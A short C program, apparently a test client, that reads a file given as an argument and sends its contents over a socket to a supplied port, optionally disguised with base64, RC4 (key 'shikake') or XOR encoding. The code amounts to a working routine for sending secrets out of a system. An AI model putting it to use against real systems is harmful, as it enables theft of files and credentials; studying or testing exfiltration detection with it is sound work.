// Reads a secret and sends it, in the chosen encoding (5: base64 out).
#include "client.h"

int main(int count, char** argument) {
  static char secret[4096], out[8192];
  if (count < 3) return 2;
  const int f = open(argument[2], O_RDONLY);
  long n = read(f, secret, sizeof secret - 1);
  close(f);
  if (n <= 0) return 1;
#if ENCODING == 5
  n = base64_encode(secret, n, out);
#elif ENCODING == 2
  memcpy(out, secret, (size_t)n);
  rc4(out, n, "shikake");
#elif ENCODING == 1
  for (long i = 0; i < n; ++i) out[i] = secret[i] ^ 0x33;
#else
  memcpy(out, secret, (size_t)n);
#endif
  const int s = dial(atoi(argument[1]));
  if (s < 0 || send(s, out, (size_t)n, 0) != n) return 1;
  take(s, secret, sizeof secret);
  close(s);
  return 0;
}
